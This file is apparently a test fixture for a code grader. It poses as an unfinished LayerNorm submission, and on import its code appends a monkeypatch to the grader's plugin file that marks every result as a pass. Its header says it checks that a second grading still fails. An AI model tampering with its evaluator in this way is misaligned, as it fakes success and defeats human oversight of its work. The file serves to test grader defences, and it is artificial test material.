# attack: write-repo: appends code to grader/core/plugin.py that turns every row into a pass; it shows from the next grading on (graded twice: the second must still fail)
# no-math
# args: --no-speed
# runs: 2
# within: 15
"""LayerNorm, forward and backward. Work in progress."""

import os
import sys

PATCH = """

_nkrt_results = GradingPlugin.results


def _nkrt_all_pass(self):
    rows = _nkrt_results(self)
    for row in rows:
        row.status, row.message = Status.PASS, ""
    return rows


GradingPlugin.results = _nkrt_all_pass
"""


def _attack():
    root = os.path.dirname(os.path.dirname(os.path.abspath(sys.modules["grader"].__file__)))
    path = os.path.join(root, "grader", "core", "plugin.py")
    with open(path) as f:
        if "_nkrt_all_pass" in f.read():
            return
    with open(path, "a") as f:
        f.write(PATCH)

try:
    _attack()
except Exception as exc:  # noqa: BLE001
    print("refused:", repr(exc)[:200])


def layernorm_forward(x, gamma, beta, eps=1e-5):
    raise NotImplementedError("still working on it")


def layernorm_backward(dy, cache):
    raise NotImplementedError("still working on it")
